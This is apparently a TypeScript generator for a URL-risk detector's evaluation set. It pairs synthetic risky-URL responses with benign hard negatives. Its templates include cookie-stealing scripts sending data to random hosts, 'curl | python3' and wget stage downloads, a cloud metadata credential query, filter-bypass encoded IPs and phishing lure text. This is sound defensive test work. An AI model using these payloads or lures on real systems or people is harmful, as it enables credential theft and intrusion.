/**
 * Evaluation set for the urls detector: LLM-response-like texts with risky URLs (positives,
 * `expect` = rule ids that must be found) and hard negatives (normal links, docs, package
 * registries, localhost, placeholders; `expect` = []). Deterministic: a fixed-seed PRNG.
 *
 * Run `npx tsx eval/gen/urls.ts` to (re)write eval/data/urls.jsonl.
 */
import { mkdirSync, writeFileSync } from 'node:fs';
import { dirname, resolve } from 'node:path';
import { fileURLToPath } from 'node:url';
import { type EvalExample, prng } from './common.js';

const rand = prng(0x75726c73);
const pick = <T>(xs: readonly T[]): T => xs[Math.floor(rand() * xs.length)]!;
const int = (lo: number, hi: number) => lo + Math.floor(rand() * (hi - lo + 1));
const ALNUM = 'ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789';
const token = (n: number, chars = ALNUM) => Array.from({ length: n }, () => chars[Math.floor(rand() * chars.length)]).join('');
const lower = (n: number) => token(n, 'abcdefghijklmnopqrstuvwxyz0123456789');

const WORDS_A = ['secure', 'account', 'update', 'files', 'portal', 'cloud', 'data', 'sync', 'share', 'office', 'mail', 'docs', 'drive', 'pay', 'verify', 'service', 'web', 'app'];
const WORDS_B = ['center', 'hub', 'zone', 'point', 'box', 'net', 'link', 'desk', 'store', 'base', 'gate', 'line', 'space', 'direct'];
const OK_TLDS = ['com', 'net', 'org', 'io', 'co', 'info', 'biz', 'de', 'ru'];
const RISKY = ['tk', 'ml', 'ga', 'cf', 'gq', 'xyz', 'top', 'click', 'country', 'kim', 'work', 'support', 'rest', 'cam', 'zip', 'mov', 'icu', 'buzz', 'sbs', 'cfd'];
const domain = (tlds: readonly string[] = OK_TLDS) => `${pick(WORDS_A)}-${pick(WORDS_B)}${rand() < 0.3 ? int(2, 99) : ''}.${pick(tlds)}`;
const publicIp = () => `${pick([45, 91, 103, 141, 176, 185, 193, 194, 212, 217])}.${int(0, 255)}.${int(0, 255)}.${int(1, 254)}`;

const OPENERS = ['Sure! ', 'Here you go: ', 'Good question. ', '', 'Of course. ', 'Based on the logs, ', 'To fix this, ', 'From what I can see, '];
const CLOSERS = ['', ' Let me know if that helps!', ' Hope this helps.', ' Anything else?', '\n\nLet me know if you need more details.', ' Be careful with untrusted sources.'];

/** Wraps a sentence with a URL into one of several response shapes. */
function frame(sentence: string, code?: { lang: string; body: string }): string {
  const shape = int(0, 4);
  const open = pick(OPENERS);
  const close = pick(CLOSERS);
  const fence = code ? `\n\n\`\`\`${code.lang}\n${code.body}\n\`\`\`\n` : '';
  if (code && shape <= 2) return `${open}${sentence}${fence}${close}`;
  if (shape === 3) return `${open}Here are the steps:\n\n1. Open a terminal.\n2. ${sentence}${fence}\n3. Restart the service.${close}`;
  if (shape === 4 && !code) return `| Item | Link |\n|------|------|\n| Resource | ${sentence} |\n${close}`;
  return `${open}${sentence}${fence}${close}`;
}

type Gen = () => { text: string; expect: string[] };

const b64 = (s: string) => Buffer.from(s).toString('base64');

const POSITIVES: Record<string, Gen> = {
  'data-uri': () => {
    const kind = int(0, 3);
    if (kind === 0) {
      const html = pick(['<script>fetch("//c2.' + domain(RISKY) + '/?k="+document.cookie)</script>', '<form action="https://' + domain() + '/p"><input type=password name=p></form>', '<h1>Session expired</h1><script>location="https://' + domain() + '"</script>']);
      return { text: frame(`Open this link in a new tab: data:text/html;base64,${b64(html)}`), expect: ['urls.data-uri'] };
    }
    if (kind === 1) {
      return { text: frame('Add this tag to the page:', { lang: 'html', body: `<script src="data:text/javascript;base64,${b64(`eval(atob("${b64('alert(' + int(1, 9) + ')')}"))`)}"></script>` }), expect: ['urls.data-uri'] };
    }
    if (kind === 2) {
      return { text: frame(`[Download the invoice](data:application/octet-stream;base64,TVqQAAMAAAAEAAAA//8AALgAAAAAAAAAQAAAAAAAAAAAAAAA${token(40)})`), expect: ['urls.data-uri'] };
    }
    return { text: frame(`Paste this into the address bar: data:text/html,<script>document.write('${token(12)}')</script>`), expect: ['urls.data-uri'] };
  },
  'javascript-uri': () => {
    const body = pick([`alert(document.cookie)`, `fetch('https://${domain()}/c?d='+document.cookie)`, `eval(atob('${b64('alert(1)')}'))`, `window.location='https://${domain(RISKY)}'`, `document.body.innerHTML=''`, `prompt('Enter password')`]);
    const shape = int(0, 2);
    if (shape === 0) return { text: frame(`[Click here to verify your account](javascript:${body})`), expect: ['urls.javascript-uri'] };
    if (shape === 1) return { text: frame('Use this link:', { lang: 'html', body: `<a href="javascript:${body.replace(/"/g, "'")}">Claim reward</a>` }), expect: ['urls.javascript-uri'] };
    return { text: frame(`Bookmark this: javascript:${body.replace(/ /g, '')}`), expect: ['urls.javascript-uri'] };
  },
  credentials: () => {
    const user = pick(['deploy', 'svc_ci', 'admin', 'jenkins', 'backup', 'ops-bot', 'alice', 'release']);
    const pass = token(int(10, 20)) + pick(['', '!', '-9', '_x']);
    const host = `${pick(['git', 'registry', 'files', 'ci', 'repo', 'nexus'])}.${pick(['acme-corp', 'contoso-data', 'initech', 'globex', 'umbrella-it'])}.${pick(['com', 'io', 'net', 'dev'])}`;
    const shape = int(0, 3);
    if (shape === 0) return { text: frame('Clone it with:', { lang: 'bash', body: `git clone https://${user}:${pass}@${host}/team/project.git` }), expect: ['urls.credentials'] };
    if (shape === 1) return { text: frame('Set the mirror in your config:', { lang: 'yaml', body: `mirror:\n  url: https://${user}:${pass}@${host}/artifactory/api/npm/\n  timeout: 30` }), expect: ['urls.credentials'] };
    if (shape === 2) return { text: frame(`The nightly job pulls from ftp://${user}:${pass}@${host}/exports/ every day.`), expect: ['urls.credentials'] };
    return { text: frame('Test the endpoint:', { lang: 'bash', body: `curl -s "https://${user}:${pass}@${host}/api/v2/status"` }), expect: ['urls.credentials'] };
  },
  'userinfo-host': () => {
    const brand = pick(['www.google.com', 'accounts.google.com', 'login.microsoftonline.com', 'www.paypal.com', 'appleid.apple.com', 'github.com']);
    const target = rand() < 0.5 ? domain(RISKY) : publicIp();
    return { text: frame(`Please sign in again at https://${brand}@${target}/session/${lower(8)} to keep access.`), expect: ['urls.userinfo-host'] };
  },
  'ip-host': () => {
    const ip = publicIp();
    const shape = int(0, 3);
    if (shape === 0) return { text: frame(`The sample beacons to http://${ip}:${pick([8080, 443, 8443, 4444])}/${pick(['gate.php', 'api/v1/checkin', 'panel/'])} every 60 seconds.`), expect: ['urls.ip-host'] };
    if (shape === 1) return { text: frame('Fetch the stage:', { lang: 'bash', body: `wget -q http://${ip}/${lower(6)}/run -O /tmp/.x` }), expect: ['urls.ip-host'] };
    if (shape === 2) return { text: frame('From inside the pod you can query:', { lang: 'bash', body: 'curl http://169.254.169.254/latest/meta-data/iam/security-credentials/' }), expect: ['urls.ip-host'] };
    return { text: frame(`Open http://${ip}/admin/login to reach the exposed panel.`), expect: ['urls.ip-host'] };
  },
  'ip-encoded': () => {
    const a = [int(1, 223), int(0, 255), int(0, 255), int(1, 254)];
    const n = ((a[0]! << 24) >>> 0) + (a[1]! << 16) + (a[2]! << 8) + a[3]!;
    const form = pick([String(n), '0x' + n.toString(16).toUpperCase(), a.map((x) => '0' + x.toString(8)).join('.'), `${a[0]}.${(a[1]! << 16) + (a[2]! << 8) + a[3]!}`, '0x' + a[0]!.toString(16) + '.' + a.slice(1).join('.')]);
    return { text: frame(`The filter can be bypassed with http://${form}/${pick(['admin', 'internal/api', 'x', ''])} which resolves to the same host.`), expect: ['urls.ip-encoded'] };
  },
  punycode: () => {
    // xn--80ak6aa92e and xn--pple-43d decode to Cyrillic look-alikes of "apple": homographs first.
    const host = pick(['xn--mnchen-3ya.de', 'xn--80ak6aa92e.com', 'xn--pple-43d.com', 'xn--e1afmkfd.xn--p1ai', 'xn--fiqs8s.xn--fiqz9s', 'xn--caf-dma.fr']);
    const expect = host.includes('pple') || host.includes('80ak6') ? ['urls.homograph'] : ['urls.punycode'];
    return { text: frame(`The link in the email was https://${host}/${pick(['login', 'account', 'info', 'offer'])}.`), expect };
  },
  homograph: () => {
    const variants = ['g\u043e\u043egle.com', 'p\u0430ypal.com', '\u0430pple.com', 'micr\u043esoft.com', 'amaz\u043en.com', 'githu\u044c.com', 'faceb\u043e\u043ek.com', '\u03bfpenai.com', 'anthr\u043epic.com', 'netfl\u0456x.com', '\u0430\u0440\u0440\u04cf\u0435.com', 'linked\u0456n.com'];
    const host = pick(variants);
    return { text: frame(`Your session expired. Sign in at https://${host}/${pick(['signin', 'login', 'account/verify', 'security'])} to continue.`), expect: ['urls.homograph'] };
  },
  'brand-impersonation': () => {
    const brand = pick(['paypal', 'microsoft', 'apple', 'amazon', 'netflix', 'google', 'coinbase', 'binance', 'docusign', 'dropbox']);
    const host = pick([`${brand}.com.${pick(['secure', 'account', 'verify'])}-${pick(WORDS_B)}.net`, `${brand}-${pick(['login', 'verify', 'support', 'account', 'secure'])}.${pick(OK_TLDS)}`, `${pick(['login', 'secure', 'account'])}-${brand}.${pick(['online', 'site', 'live', 'top'])}`]);
    return { text: frame(`We detected unusual activity. Confirm your details at https://${host}/${pick(['login', 'update', 'confirm', 'auth'])} within 24 hours.`), expect: ['urls.brand-impersonation'] };
  },
  shortener: () => {
    const host = pick(['bit.ly', 'tinyurl.com', 't.co', 'goo.gl', 'is.gd', 'ow.ly', 'buff.ly', 'rebrand.ly', 'cutt.ly', 'shorturl.at', 'rb.gy']);
    return { text: frame(`The full report is available at https://${host}/${token(int(6, 9))}`), expect: ['urls.shortener'] };
  },
  'risky-tld': () => {
    const url = rand() < 0.7 ? `https://${domain(RISKY)}/${pick(['promo', 'landing', 'offer', 'welcome', 'portal'])}` : `${domain(RISKY)}/${pick(['start', 'go', 'now'])}`;
    return { text: frame(`The campaign points users to ${url} and then redirects.`), expect: ['urls.risky-tld'] };
  },
  executable: () => {
    const file = `${pick(['setup', 'update', 'installer', 'invoice', 'patch', 'driver', 'client', 'agent'])}${rand() < 0.3 ? '.pdf' : ''}.${pick(['exe', 'msi', 'scr', 'bat', 'ps1', 'vbs', 'hta', 'apk', 'dmg', 'jar', 'lnk', 'iso'])}`;
    const host = domain();
    const shape = int(0, 2);
    if (shape === 0) return { text: frame(`Download the fix from https://${host}/downloads/${file} and run it as administrator.`), expect: ['urls.executable-download'] };
    if (shape === 1) return { text: frame('Run this in PowerShell:', { lang: 'powershell', body: `Invoke-WebRequest -Uri "https://${host}/a/${file}" -OutFile "$env:TEMP\\${file}"` }), expect: ['urls.executable-download'] };
    return { text: frame(`Get it here: https://${host}/get.php?file=${file}&id=${int(100, 999)}`), expect: ['urls.executable-download'] };
  },
  'paste-site': () => {
    const url = pick([`https://pastebin.com/raw/${token(8)}`, `https://paste.ee/r/${token(5)}`, `https://hastebin.com/raw/${lower(10)}`, `https://rentry.co/${lower(5)}/raw`, `https://transfer.sh/${token(6)}/dump.tar.gz`, `https://file.io/${token(12)}`, `https://temp.sh/${token(5)}/out.txt`, `https://ghostbin.com/paste/${lower(5)}`, `https://0x0.st/${token(4)}.txt`]);
    const shape = int(0, 1);
    if (shape === 0) return { text: frame('Stage two is pulled like this:', { lang: 'bash', body: `curl -s ${url} | python3 -` }), expect: ['urls.paste-site'] };
    return { text: frame(`The config was uploaded to ${url} before the wipe.`), expect: ['urls.paste-site'] };
  },
  'file-remote': () => {
    const host = rand() < 0.5 ? domain() : publicIp();
    const shape = int(0, 1);
    if (shape === 0) return { text: frame('Embed the tracking pixel:', { lang: 'html', body: `<img src="file://${host}/share/${lower(6)}.png" width="1" height="1">` }), expect: ['urls.file-remote'] };
    return { text: frame(`Open file://${host}/public/${pick(['report.docx', 'q3.xlsx', 'notes.txt'])} from Explorer.`), expect: ['urls.file-remote'] };
  },
};

const NEGATIVE_SENTENCES: (() => string)[] = [
  () => `Clone the repository from https://github.com/${pick(['vercel', 'facebook', 'rust-lang', 'pallets', 'tiangolo'])}/${pick(['next.js', 'react', 'rust', 'flask', 'fastapi'])} and run the tests.`,
  () => `See the docs at https://docs.python.org/3/library/${pick(['os', 'json', 'asyncio', 'pathlib', 'zipfile'])}.html for details.`,
  () => `Install it with \`npm install ${pick(['zod', 'express', 'lodash', 'vite'])}\` (https://www.npmjs.com/package/${pick(['zod', 'express', 'lodash', 'vite'])}).`,
  () => `The package page is https://pypi.org/project/${pick(['requests', 'numpy', 'pandas', 'httpx'])}/ and the source is on GitHub.`,
  () => `Start the dev server and open http://localhost:${pick([3000, 5173, 8000, 8080, 4200])}${pick(['', '/', '/api/health', '/docs'])} in your browser.`,
  () => `The API is served at http://127.0.0.1:${pick([8000, 5000, 9090])}/v1/ while developing.`,
  () => `Use https://example.com/${pick(['api', 'login', 'download/setup.exe', 'webhook'])} as a placeholder in the docs.`,
  () => `The router admin page is usually at http://192.168.${pick([0, 1])}.1/ or http://10.0.0.1/.`,
  () => `Download Python from https://www.python.org/ftp/python/3.12.${int(0, 4)}/python-3.12.${int(0, 4)}-amd64.exe or use your package manager.`,
  () => `Node installers are on https://nodejs.org/dist/v20.${int(10, 19)}.0/node-v20.${int(10, 19)}.0-x64.msi.`,
  () => `Add <script src="https://cdn.jsdelivr.net/npm/${pick(['vue@3', 'chart.js@4', 'alpinejs@3'])}/dist/${pick(['vue.global.js', 'chart.umd.js', 'cdn.min.js'])}"></script> to the page.`,
  () => `MDN explains it well: https://developer.mozilla.org/en-US/docs/Web/${pick(['HTTP/CORS', 'API/Fetch_API', 'JavaScript/Closures'])}.`,
  () => `Read the RFC at https://www.rfc-editor.org/rfc/rfc${pick([3986, 9110, 8446, 6749])} for the exact grammar.`,
  () => `The Kubernetes docs (https://kubernetes.io/docs/concepts/${pick(['workloads/pods/', 'services-networking/service/', 'configuration/secret/'])}) cover this.`,
  () => `Stack Overflow has a good answer: https://stackoverflow.com/questions/${int(1000000, 79999999)}/${pick(['how-to-merge-dicts', 'git-undo-last-commit', 'regex-for-email'])}.`,
  () => `Wikipedia: https://en.wikipedia.org/wiki/${pick(['Punycode', 'URL_shortening', 'Data_URI_scheme', 'Homoglyph'])} explains the background.`,
  () => `Connect with \`git@github.com:${pick(['org', 'me', 'team'])}/repo.git\` or https://github.com/org/repo.git over HTTPS.`,
  () => `The format is https://user:password@host:port/path — replace user and password with your own values.`,
  () => `Use https://<username>:<token>@gitlab.com/group/repo.git and keep the token in a CI secret.`,
  () => `In CI set \`REPO_URL=https://\${GIT_USER}:\${GIT_TOKEN}@git.company.com/app.git\`.`,
  () => `Link shorteners such as bit.ly and tinyurl hide the destination, so expand them before clicking.`,
  () => `The .zip and .mov TLDs are confusing because they look like file names; compress the folder into backup.zip and send it.`,
  () => `Use \`<a href="javascript:void(0)" onclick="openMenu()">\` only if you cannot use a button.`,
  () => `In JavaScript: arrays are objects, and data: structures like maps keep insertion order.`,
  () => `The YAML looks like:\n\n\`\`\`yaml\nmetadata:\n  name: web\ndata:\n  LOG_LEVEL: info\n\`\`\``,
  () => `Inline the icon as ![icon](data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAABAAAAAQCAYAAAAf8/9hAAAA${token(40)}) to avoid a request.`,
  () => `The private range 10.0.0.0/8 and 192.168.0.0/16 are not routable; version 1.2.3.4/5 is unrelated.`,
  () => `Edit src/components/App.tsx and lib/utils/format.ts, then run ./scripts/build.sh.`,
  () => `Email support@${pick(['github.com', 'stripe.com', 'python.org'])} if the problem persists.`,
  () => `Indicators (defanged): hxxp://evil[.]tk/payload[.]exe and 185[.]22[.]33[.]44 — do not visit.`,
  () => `Read the article at https://medium.com/@${pick(['jane', 'devblog', 'sec-team'])}/${pick(['understanding-oauth', 'rust-ownership', 'k8s-tips'])}-${lower(12)}.`,
  () => `Microsoft's TypeScript handbook is at https://www.typescriptlang.org/docs/handbook/intro.html and the repo at https://microsoft.github.io/TypeScript-Website/.`,
  () => `Sign in at https://login.microsoftonline.com/common/oauth2/v2.0/authorize or https://accounts.google.com/o/oauth2/auth.`,
  () => `The German city site is https://www.muenchen.de/ and the IDN form is shown as münchen.de in browsers.`,
  () => `Open file:///C:/Users/${pick(['me', 'dev', 'alice'])}/Desktop/report.pdf or file:///etc/hosts locally.`,
  () => `Docker Hub: https://hub.docker.com/_/${pick(['postgres', 'redis', 'nginx'])} and the compose docs at https://docs.docker.com/compose/.`,
  () => `The IPv6 loopback is http://[::1]:8080/ and the documentation prefix is http://[2001:db8::1]/.`,
  () => `Test against http://192.0.2.10/ and http://203.0.113.7/api (documentation addresses).`,
  () => `Release notes: https://github.com/${pick(['nodejs/node', 'python/cpython', 'golang/go'])}/releases/tag/v${int(1, 20)}.${int(0, 9)}.${int(0, 9)}`,
  () => `Visit www.${pick(['wikipedia.org', 'mozilla.org', 'apache.org', 'gnu.org'])} for more.`,
  () => `Go docs: https://pkg.go.dev/${pick(['net/http', 'encoding/json', 'context'])} and the tour at https://go.dev/tour/.`,
  () => `The Rust book lives at https://doc.rust-lang.org/book/ch${pick(['04', '08', '10'])}-00-${pick(['understanding-ownership', 'common-collections', 'generics'])}.html.`,
  () => `AWS docs: https://docs.aws.amazon.com/${pick(['s3', 'lambda', 'iam'])}/latest/userguide/Welcome.html`,
  () => `Anthropic's docs are at https://docs.anthropic.com/en/docs/ and OpenAI's at https://platform.openai.com/docs/.`,
  () => `The shortened form https://bit.ly/ is just the home page; use the full link https://www.w3.org/TR/${pick(['html52', 'CSS2', 'WCAG21'])}/ instead.`,
];

const NEGATIVE_CODE: (() => { lang: string; body: string })[] = [
  () => ({ lang: 'bash', body: `git clone https://github.com/${pick(['torvalds/linux', 'kubernetes/kubernetes', 'denoland/deno'])}.git\ncd ${pick(['linux', 'kubernetes', 'deno'])}\nmake` }),
  () => ({ lang: 'python', body: `import requests\nresp = requests.get("https://api.github.com/repos/${pick(['psf/requests', 'pallets/flask'])}")\nprint(resp.json()["stargazers_count"])` }),
  () => ({ lang: 'js', body: `const res = await fetch('http://localhost:${pick([3000, 8080])}/api/items');\nconst items = await res.json();` }),
  () => ({ lang: 'yaml', body: `services:\n  db:\n    image: postgres:16\n    environment:\n      DATABASE_URL: postgres://app:app@localhost:5432/app\n  web:\n    ports: ["8080:80"]` }),
  () => ({ lang: 'html', body: `<link rel="stylesheet" href="https://cdn.jsdelivr.net/npm/bootstrap@5.3.3/dist/css/bootstrap.min.css">\n<a href="https://getbootstrap.com/docs/5.3/">Docs</a>` }),
  () => ({ lang: 'json', body: `{\n  "homepage": "https://github.com/org/${lower(6)}#readme",\n  "repository": { "type": "git", "url": "git+https://github.com/org/${lower(6)}.git" },\n  "bugs": "https://github.com/org/${lower(6)}/issues"\n}` }),
  () => ({ lang: 'bash', body: `pip install --index-url https://pypi.org/simple/ ${pick(['torch', 'numpy', 'scikit-learn'])}\nconda install -c conda-forge ${pick(['numpy', 'pandas'])}` }),
  () => ({ lang: 'nginx', body: `server {\n  listen 80;\n  server_name example.com;\n  location / { proxy_pass http://127.0.0.1:8000; }\n}` }),
];

export function generate(): EvalExample[] {
  const out: EvalExample[] = [];
  const families = Object.keys(POSITIVES);
  for (let i = 0; i < 165; i++) {
    const family = families[i % families.length]!;
    const { text, expect } = POSITIVES[family]!();
    out.push({ id: `urls-pos-${family}-${String(i).padStart(3, '0')}`, text, expect });
  }
  for (let i = 0; i < 165; i++) {
    const text = i % 3 === 2 ? frame(pick(NEGATIVE_SENTENCES)(), pick(NEGATIVE_CODE)()) : frame(pick(NEGATIVE_SENTENCES)());
    out.push({ id: `urls-neg-${String(i).padStart(3, '0')}`, text, expect: [] });
  }
  return out;
}

if (process.argv[1] && resolve(process.argv[1]) === fileURLToPath(import.meta.url)) {
  const target = resolve(dirname(fileURLToPath(import.meta.url)), '../data/urls.jsonl');
  mkdirSync(dirname(target), { recursive: true });
  const examples = generate();
  writeFileSync(target, examples.map((e) => JSON.stringify(e)).join('\n') + '\n');
  process.stdout.write(`wrote ${examples.length} examples to ${target}\n`);
}
